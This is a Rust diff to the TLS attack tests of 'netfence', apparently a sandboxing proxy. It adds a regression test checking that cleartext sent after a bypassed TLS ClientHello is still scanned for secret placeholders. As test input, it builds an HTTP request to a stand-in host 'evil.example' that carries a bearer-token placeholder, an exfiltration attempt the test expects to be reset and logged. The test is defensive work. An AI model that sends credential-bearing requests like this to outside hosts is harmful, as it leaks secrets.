@@ -24,6 +24,16 @@ const KEY: &str = "sk-real-0123456789abcdef";
 /// netfence with interception (the test CA trusted upstream), `toml` before the `[tls]` table
 /// and `args`; returns it, the PEM of its CA and the scratch directory.
 fn spawn(up_ca: &TestCa, toml: &str, args: &[String]) -> (Netfence, String, TempDir) {
+    spawn_tls(up_ca, toml, "", args)
+}
+
+/// [`spawn`] with `tls_extra` lines in the `[tls]` table.
+fn spawn_tls(
+    up_ca: &TestCa,
+    toml: &str,
+    tls_extra: &str,
+    args: &[String],
+) -> (Netfence, String, TempDir) {
     let dir = TempDir::new("nf-tls-attack");
     let ca_file = dir.path().join("upstream-ca.pem");
     std::fs::write(&ca_file, &up_ca.cert_pem).unwrap();
@@ -31,7 +41,7 @@ fn spawn(up_ca: &TestCa, toml: &str, args: &[String]) -> (Netfence, String, Temp
     std::fs::write(
         &cfg,
         format!(
-            "{toml}\n[tls]\nupstream_ca_certs = [{:?}]\n",
+            "{toml}\n[tls]\nupstream_ca_certs = [{:?}]\n{tls_extra}\n",
             ca_file.to_str().unwrap()
         ),
     )
@@ -397,5 +407,74 @@ fn an_echoing_allowed_host_does_not_hand_the_value_to_the_guest() {
     assert!(
         !contains(&response, KEY),
         "the guest read the value in the answer"
+    );
+}
+
+/// A TLS connection netfence does not intercept (a `tls.bypass` name) is still a stream it can
+/// read where it is not encrypted: a guest that sends a real ClientHello for the bypassed name,
+/// then its request in clear, must meet the placeholder scanner as any other cleartext TCP flow
+/// does (a placeholder there is a violation: reset and logged). Before the fix, a flow the SNI
+/// gate opened without an interceptor had no secrets stage at all.
+#[test]
+fn cleartext_after_a_bypassed_hello_is_scanned_for_placeholders() {
+    const BYPASSED: &str = "pinned.example.net";
+    let up_ca = TestCa::new("test upstream CA");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let log = seen.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let log = log.clone();
+            std::thread::spawn(move || {
+                let mut chunk = [0u8; 8192];
+                while let Ok(n @ 1..) = std::io::Read::read(&mut stream, &mut chunk) {
+                    log.lock().unwrap().extend_from_slice(&chunk[..n]);
+                }
+            });
+        }
+    });
+    let (nf, _ca_pem, _dir) = spawn_tls(
+        &up_ca,
+        &secret_toml(KEY, ""),
+        &format!("bypass = [\"{BYPASSED}\"]"),
+        &map_all(port),
+    );
+    let mut g = guest_up(&nf);
+    let hello = {
+        let mut c = rustls::ClientConnection::new(
+            client_config(&up_ca.cert_pem, &[b"http/1.1"]),
+            rustls::pki_types::ServerName::try_from(BYPASSED).unwrap(),
+        )
+        .unwrap();
+        let mut out = Vec::new();
+        c.write_tls(&mut out).unwrap();
+        out
+    };
+    let ph = default_placeholder("API_KEY");
+    let h = g.tcp_connect(PUBLIC_IP, 443, SHORT).expect("TCP");
+    g.tcp_send_all(h, &hello, deadline(SHORT)).unwrap();
+    assert!(g.tcp_flush(h, deadline(SHORT)), "the hello was not taken");
+    let d = nf
+        .wait_for_decision_where(SHORT, |d| d.line.contains("tls.bypass"))
+        .unwrap_or_else(|| panic!("not bypassed\n{}", nf.log_text()));
+    assert_eq!(d.action, "allow", "{}", d.line);
+    let clear =
+        format!("GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {ph}\r\n\r\n");
+    g.tcp_send_all(h, clear.as_bytes(), deadline(SHORT))
+        .unwrap();
+    let reset = g.poll_until(deadline(SHORT), |g| {
+        (g.tcp(h).state() == smoltcp::socket::tcp::State::Closed).then_some(())
+    });
+    assert!(
+        nf.wait_for_log("secret violation", SHORT).is_some(),
+        "no violation for a placeholder in clear after a bypassed hello\n{}",
+        nf.log_text()
+    );
+    assert!(reset.is_some(), "the flow was not reset");
+    assert!(
+        !contains(&seen.lock().unwrap(), &ph),
+        "the placeholder went out"
     );
 }
